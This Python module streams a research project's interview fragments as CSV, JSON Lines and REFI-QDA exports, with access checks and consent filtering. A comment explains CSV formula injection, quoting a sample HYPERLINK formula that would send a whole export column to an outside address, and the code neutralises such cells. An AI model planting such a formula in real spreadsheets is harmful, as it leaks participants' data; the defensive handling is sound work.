"""Exports: CSV, JSON Lines and REFI-QDA (.qdpx) of any filtered selection, streamed in constant memory.

Rows are read a keyset page at a time, each page in its own short read, and written out as they come:
a million rows never sit in memory together. What an export includes follows the caller's rights, and a
partner or public export only what consent allows (`share`, `publish`).
"""

import csv
import functools
import hashlib
import json
import uuid
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from json.encoder import encode_basestring  # type: ignore[attr-defined]
from typing import Any
from xml.sax.saxutils import quoteattr

import sqlalchemy as sa
from sqlmodel import Session, col, select

from api.clients.deps import ClientActor, Reader
from api.clients.models import Audience, ClientScope
from api.consent.models import Consent, Participant
from api.conversations.models import Conversation
from api.db import open_session
from api.errors import Forbidden, NotFound
from api.export import xmltext
from api.fragments import render
from api.fragments import service as fragments
from api.fragments.models import Fragment, FragmentStatus
from api.memos import service as memos
from api.projects import service as projects
from api.projects.models import Place, Project, Prompt
from api.tags import codebook
from api.tags.models import FragmentTag, Tag

# Rows a read brings: 2,000 made 10 MB at once (the rows, their text, its bytes), 1,000 cost ~7% more CPU.
PAGE = 1000
# What one send carries. Starlette sends each chunk from a worker thread (a hop and a write each): 64 KB made a
# million-row export some 7,000 hops; bigger chunks cost only their size in memory.
CHUNK = 256 * 1024
CSV_COLUMNS = ["id", "captured_at", "place", "prompt", "kind", "language", "text", "sensitive", "tags", "answers",
               "conversation_id", "consent_id", "participant_label"]


def check_access(session: Session, reader: Reader, project_id: uuid.UUID, q: str | None) -> Project:
    """Everything that could refuse an export is checked here, before the first byte is streamed."""
    if q is not None:
        fragments.search_words(q)
    if isinstance(reader, ClientActor):
        reader.require(ClientScope.export)
        if reader.client.project_id != project_id:
            raise NotFound("No such project.")
        project = session.get(Project, project_id)
        if project is None:
            raise NotFound("No such project.")
        return project
    project, role = projects.get_project(session, reader, project_id)
    if not projects.is_manager(role):
        raise Forbidden("Only the project's coordinators export.")
    return project


@functools.cache
def _columns(dialect: str) -> tuple[Any, ...]:
    """What an export reads of a fragment, with its tag ids found by the same query (through fragment_tags'
    primary key) rather than by a query per page. The participant label is not here: see _Labels."""
    tags = render.joined_ids(FragmentTag.tag_id, dialect)
    return (render.raw_id(Fragment.id, dialect).label("id"),
            sa.func.replace(render.time_text(Fragment.captured_at, dialect), "Z", "+00:00").label("captured_at"),
            render.raw_id(Fragment.place_id, dialect).label("place_id"),
            render.raw_id(Fragment.prompt_id, dialect).label("prompt_id"), Fragment.kind, Fragment.language,
            Fragment.text, Fragment.sensitive, Fragment.answers,
            render.raw_id(Fragment.conversation_id, dialect).label("conversation_id"),
            render.raw_id(Fragment.consent_id, dialect).label("consent_id"),
            render.raw_id(Fragment.researcher_id, dialect).label("researcher_id"),
            select(tags).where(FragmentTag.fragment_id == Fragment.id).scalar_subquery().label("tag_ids"))


def _pages(reader: Reader, project_id: uuid.UUID, filters: dict[str, Any], q: str | None,
           names: "_Names") -> Iterator[list[Any]]:
    """Keyset pages in capture order (ix_fragments_project_captured), each read in a short transaction of its own:
    no read stays open for the whole download, and a withdrawal that commits meanwhile is honoured by later pages.
    The labels of each page's consents are found in the same transaction (names.labels)."""
    cursor: str | None = None
    while True:
        with open_session(read_only=True) as session:
            rows, cursor = fragments.list_fragments(session, reader, project_id=project_id, q=q, cursor=cursor,
                                                    limit=PAGE, filters={**filters, "status": FragmentStatus.active},
                                                    client_scope=ClientScope.export,
                                                    columns=_columns(names.dialect))
            if names.labels is not None:
                names.labels.read(session, rows)
        yield rows  # with the read ended: a slow download holds no transaction open
        del rows  # (or this page would still be held while the next is read)
        if cursor is None:
            return


def _chunks(pieces: Iterator[str]) -> Iterator[bytes]:
    """Text pieces (a page's worth, or the small parts of a .qdpx) as chunks of about CHUNK bytes: each chunk the
    server sends costs a thread hop and a write, so a chunk a row made the export many times slower than the
    database, and a page at once would make the first bytes wait for a whole page."""
    buffer: list[str] = []
    size = 0
    for piece in pieces:
        buffer.append(piece)
        size += len(piece)
        del piece
        if size >= CHUNK:
            data = "".join(buffer).encode()
            buffer, size = [], 0
            for at in range(0, len(data), CHUNK):
                yield data[at:at + CHUNK]
            del data  # before the next page is read: memory holds one page's text at a time
    if buffer:
        yield "".join(buffer).encode()


class _Labels:
    """Participants' labels by consent id (as the database holds it), read a page at a time for the consents that
    page brings and `known` lacks. Consecutive fragments mostly share a consent, so a page asks for few; a label
    looked up per row in the fragments' query cost more than the rest of that query."""

    LIMIT = 50_000

    def __init__(self, dialect: str) -> None:
        self.known: dict[Any, str] = {}
        self.as_uuid = render.as_uuid(dialect)
        self.query = (select(render.raw_id(Consent.id, dialect), Participant.label)
                      .join(Participant, Participant.id == Consent.participant_id)  # type: ignore[arg-type]
                      .where(col(Consent.id).in_(sa.bindparam("ids", expanding=True))))

    def read(self, session: Session, rows: list[Any]) -> None:
        missing = {r.consent_id for r in rows} - self.known.keys()
        if not missing:
            return
        if len(self.known) + len(missing) > self.LIMIT:
            self.known.clear()
        ids = [self.as_uuid(c) for c in missing]
        self.known.update(session.connection().execute(self.query, {"ids": ids}).all())


class _Names:
    """The lookups an export row needs (place and prompt names, tags, researchers, participant labels), by id as
    the database holds it (see render.raw_id), and how to print an id."""

    def __init__(self, project_id: uuid.UUID, labels: bool = False):
        with open_session(read_only=True) as session:
            self.dialect = dialect = session.get_bind().dialect.name
            self.dashed = render.dashed(dialect)
            key = render.raw_of(dialect)
            self.places = {key(p.id): p.name for p in session.exec(select(Place).where(Place.project_id == project_id))}
            self.prompts = {key(p.id): p.text
                            for p in session.exec(select(Prompt).where(Prompt.project_id == project_id))}
            joined = render.joined_of(dialect)  # tags are listed as render.joined_ids writes them
            self.tags = {joined(t.id): t for t in session.exec(select(Tag).where(Tag.project_id == project_id))}
            # Everyone who captured in the project, listed in a .qdpx before the sources that name them (from
            # the conversations: a fragment's researcher is its conversation's, and they are far fewer).
            self.users = {key(r): str(r) for r in session.exec(select(Conversation.researcher_id)
                                                               .where(Conversation.project_id == project_id)
                                                               .distinct())}
        self.labels = _Labels(dialect) if labels else None
        # A conversation's or consent's id, printed.
        self.printed = render.Cache(self.dashed)

    def tag_names(self, tag_ids: str) -> list[str]:
        """The names of the tags in a row's tag_ids, in name order."""
        return sorted(self.tags[t].name for t in tag_ids.split(",") if t in self.tags)


def _for_the_team(reader: Reader, filters: dict[str, Any]) -> bool:
    """An export for the project's own team: not for a partner's or the public's tool, nor a coordinator's export
    for one of those audiences. Only the team's exports carry participants' labels (pseudonymous, but only the team
    needs them) and memos (the team's notes, which may quote any fragment)."""
    internal = not isinstance(reader, ClientActor) or reader.client.audience == Audience.internal
    return internal and filters.get("audience") in (None, Audience.internal)


class _Lines(list[str]):
    """A file for csv.writer that keeps each line it writes (a StringIO holds four bytes a character: a page's
    worth doubled the export's memory)."""

    write = list.append


def csv_stream(reader: Reader, project_id: uuid.UUID, filters: dict[str, Any], q: str | None) -> Iterator[bytes]:
    """A row a fragment, CSV_COLUMNS: a page at a time, each written by csv.writer in one call."""

    def pages() -> Iterator[str]:
        lines = _Lines()
        csv.writer(lines).writerow(CSV_COLUMNS)
        yield "\ufeff" + lines[0]  # a BOM, so spreadsheet programs read UTF-8 right
        names = _Names(project_id, labels=_for_the_team(reader, filters))
        dashed, printed = names.dashed, names.printed
        places = {k: _as_text(v) for k, v in names.places.items()}.get
        prompts = {k: _as_text(v) for k, v in names.prompts.items()}.get
        labels = names.labels.known if names.labels is not None else {}  # letters and digits first (sync's Label)
        tags = render.Cache(lambda tag_ids: _as_text("; ".join(names.tag_names(tag_ids))))
        for rows in _pages(reader, project_id, filters, q, names):
            lines = _Lines()
            csv.writer(lines).writerows(
                (dashed(id_), at, places(place), prompts(prompt), kind, _as_text(language), _as_text(text), sensitive,
                 tags[tag_ids] if tag_ids else "", json.dumps(answers, ensure_ascii=False) if answers else "",
                 printed[conversation], printed[consent], labels.get(consent))
                for id_, at, place, prompt, kind, language, text, sensitive, answers, conversation, consent, _,
                tag_ids in rows)
            del rows  # (see _pages)
            text = "".join(lines)
            del lines
            yield text
            del text  # (the next page is read without this one)

    return _chunks(pages())


# A spreadsheet program runs a cell that begins with one of these as a formula: a researcher's fragment reading
# =HYPERLINK("https://…?"&G2:G9000, "more") would send a coordinator's whole export away with one click (older
# programs run commands). In the CSV such a cell gets an apostrophe first, which they show as text and hide (OWASP's
# advice); JSON Lines and .qdpx carry the words exactly.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _as_text(cell: str | None) -> str | None:
    return "'" + cell if cell and cell.startswith(FORMULA_STARTS) else cell


def jsonl_stream(reader: Reader, project_id: uuid.UUID, filters: dict[str, Any], q: str | None) -> Iterator[bytes]:
    """One object a line with CSV_COLUMNS' keys (tags a list of names, answers an object), byte for byte as
    json.dumps(record, ensure_ascii=False) writes it, but put together from its parts: what recurs (names, kinds,
    tag lists, ids) is encoded once and the text by json's own C function. (json.dumps of a dict a row cost as
    much as reading the row.)"""

    def json_or_null(value: str | None) -> str:
        return "null" if value is None else encode_basestring(value)

    def pages() -> Iterator[str]:
        names = _Names(project_id, labels=_for_the_team(reader, filters))
        dashed, printed = names.dashed, names.printed
        labels = names.labels.known if names.labels is not None else {}
        places = {raw: encode_basestring(name) for raw, name in names.places.items()}
        prompts = {raw: encode_basestring(text) for raw, text in names.prompts.items()}
        short = render.Cache(json_or_null)  # kinds, languages, labels: the same few strings again and again
        tags = render.Cache(lambda tag_ids: json.dumps(names.tag_names(tag_ids), ensure_ascii=False))
        for rows in _pages(reader, project_id, filters, q, names):
            text = "".join([
                f'{{"id": "{dashed(id_)}", "captured_at": "{at}", "place": {places.get(place, "null")}, '
                f'"prompt": {prompts.get(prompt, "null")}, "kind": {short[kind]}, "language": {short[language]}, '
                f'"text": {json_or_null(text)}, "sensitive": {"true" if sensitive else "false"}, '
                f'"tags": {tags[tag_ids] if tag_ids else "[]"}, '
                f'"answers": {"null" if answers is None else json.dumps(answers, ensure_ascii=False)}, '
                f'"conversation_id": "{printed[conversation]}", "consent_id": "{printed[consent]}", '
                f'"participant_label": {short[labels.get(consent)]}}}\n'
                for id_, at, place, prompt, kind, language, text, sensitive, answers, conversation, consent, _,
                tag_ids in rows])
            del rows  # (see _pages)
            yield text
            del text

    return _chunks(pages())


# --- REFI-QDA -------------------------------------------------------------------------------------------

QDA_NS = "urn:QDA-XML:project:1.0"


def _guid(value: uuid.UUID | str) -> str:
    return str(uuid.UUID(str(value)))


def _iso(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


class _Sink:
    """A write-only file for zipfile. It has no seek or tell, so zipfile writes each entry's sizes in a data
    descriptor after the entry and never goes back: the zip can leave as it is made."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def write(self, data: bytes) -> int:
        self.parts.append(bytes(data))
        return len(data)

    def flush(self) -> None:
        pass

    def take(self) -> bytes:
        out = b"".join(self.parts)
        self.parts.clear()
        return out


def qdpx_stream(reader: Reader, project: Project, filters: dict[str, Any], q: str | None) -> Iterator[bytes]:
    """A .qdpx: a zip holding one entry, project.qde, whose sources carry their text inline (PlainTextContent),
    compressed and sent as the rows stream past: nothing is written to disk and memory stays flat whatever the
    size. (One file per fragment would make a million zip entries, each remembered until the zip's end.)"""
    sink = _Sink()
    # ZIP64 from the start: the size is unknown until the end, and a big project passes 2 GB.
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf, \
            zf.open("project.qde", "w", force_zip64=True) as qde:
        for chunk in _chunks(project_xml(reader, project, filters, q)):
            qde.write(chunk)
            if data := sink.take():
                yield data
    yield sink.take()


def project_xml(reader: Reader, project: Project, filters: dict[str, Any], q: str | None) -> Iterator[str]:
    """project.qde as text pieces, in the order Project.xsd wants its sections (Users, CodeBook, Variables, Cases,
    Sources, Notes, Links, Sets, Graphs, Description): a new section is one more step here."""
    names = _Names(project.id)
    if not _for_the_team(reader, filters):
        names.users = {}  # who heard each fragment is the team's to know: no researcher, no creatingUser
    creator = _guid(uuid.uuid5(uuid.NAMESPACE_URL, f"hearken:{project.id}"))
    yield '<?xml version="1.0" encoding="utf-8"?>\n'
    yield (f'<Project xmlns="{QDA_NS}" name={quoteattr(project.name)} origin="Hearken" '
           f'creatingUserGUID="{creator}" creationDateTime="{_iso(datetime.now(UTC))}">')
    yield "<Users>" + f'<User guid="{creator}" name="Hearken"/>' + "".join(
        f'<User guid="{g}" name="researcher {g[:8]}"/>' for g in names.users.values()) + "</Users>"
    if names.tags:
        yield "<CodeBook><Codes>" + codebook.codes_xml(names.tags.values()) + "</Codes></CodeBook>"
    team = _for_the_team(reader, filters)
    linked, exported = _memo_links(project.id) if team else set(), set[uuid.UUID]()
    yield from _sources(reader, project, filters, q, names, linked, exported)
    if team:
        yield _memo_notes(project.id, exported)
    if project.description:
        yield f"<Description>{xmltext.text(project.description)}</Description>"
    yield "</Project>\n"


def _sources(reader: Reader, project: Project, filters: dict[str, Any], q: str | None,
             names: _Names, memo_linked: set[uuid.UUID], exported: set[uuid.UUID]) -> Iterator[str]:
    opened = False
    source = _TextSources(names)
    raw = render.raw_of(names.dialect)
    linked = {raw(u): u for u in memo_linked}
    for rows in _pages(reader, project.id, filters, q, names):
        if not rows:
            continue
        if not opened:
            yield "<Sources>"
            opened = True
        if linked:
            exported.update(linked[f.id] for f in rows if f.id in linked)
        text = source.page(rows)
        del rows  # (see _pages)
        yield text
        del text
    if opened:
        yield "</Sources>"


# Characters XML 1.0 cannot hold, replaced one for one so selection positions still count the fragment's text.
def _uuid5(namespace: bytes, name: str) -> str:
    """str(uuid.uuid5(UUID(bytes=namespace), name)), without the two UUID objects (a few per tagged row)."""
    digest = bytearray(hashlib.sha1(namespace + name.encode()).digest()[:16])
    digest[6] = (digest[6] & 0x0F) | 0x50  # version 5
    digest[8] = (digest[8] & 0x3F) | 0x80  # RFC 4122 variant
    h = digest.hex()
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


class _TextSources:
    """Rows of _columns as <TextSource> elements. What recurs from row to row (a place's and kind's title, a
    prompt's description, a researcher, a set of codes) is made once."""

    def __init__(self, names: _Names) -> None:
        self.dashed = names.dashed
        self.creating = {raw: f' creatingUser="{user}"' for raw, user in names.users.items()}
        self.descriptions = {raw: f"<Description>{xmltext.text(text)}</Description>"
                             for raw, text in names.prompts.items() if text}
        # quoteattr of the title without its date: the date (digits and dashes) changes neither the escaping nor
        # the choice of quote, so each row puts its date in after the opening quote.
        self.titles = render.Cache(lambda key: quoteattr(f"{names.places.get(key[0]) or 'no place'} ({key[1]})"))
        self.codes = render.Cache(lambda tag_ids: sorted(str(names.tags[t].id) for t in tag_ids.split(",")
                                                   if t in names.tags))

    def page(self, rows: list[Any]) -> str:
        parts: list[str] = []
        add = parts.append
        dashed, creating_of, descriptions, titles, codes_of = (
            self.dashed, self.creating.get, self.descriptions.get, self.titles, self.codes)
        for id_, at, place, prompt, kind, _, text, _, _, _, _, researcher, tag_ids in rows:
            text = text or ""
            guid = dashed(id_)
            creating = creating_of(researcher, "")
            when = at[:19] + "Z"
            title = titles[place, kind]
            add(f'<TextSource guid="{guid}" name={title[0]}{when[:10]} {title[1:]}{creating} '
                f'creationDateTime="{when}">{descriptions(prompt, "")}'
                f'<PlainTextContent>{xmltext.text(text)}</PlainTextContent>')
            codes = codes_of[tag_ids] if tag_ids else None
            if codes and text:
                # One selection over the whole fragment carries its codings: Hearken tags fragments, not spans.
                fid = bytes.fromhex(guid.replace("-", ""))
                add(f'<PlainTextSelection guid="{_uuid5(fid, "selection")}" name="whole fragment" '
                    f'startPosition="0" endPosition="{len(text)}"{creating}>')
                for code in codes:
                    add(f'<Coding guid="{_uuid5(fid, code)}"><CodeRef targetGUID="{code}"/></Coding>')
                add("</PlainTextSelection>")
            add("</TextSource>")
        return "".join(parts)


def _memo_links(project_id: uuid.UUID) -> set[uuid.UUID]:
    with open_session(read_only=True) as session:
        return memos.linked_fragment_ids(session, project_id)


def _memo_notes(project_id: uuid.UUID, exported: set[uuid.UUID]) -> str:
    """The coordinators' memos as REFI-QDA notes (between </Sources> and <Description>), linked to the exported
    fragments and the codes."""
    with open_session(read_only=True) as session:
        return memos.qdpx_notes(session, project_id, exported)
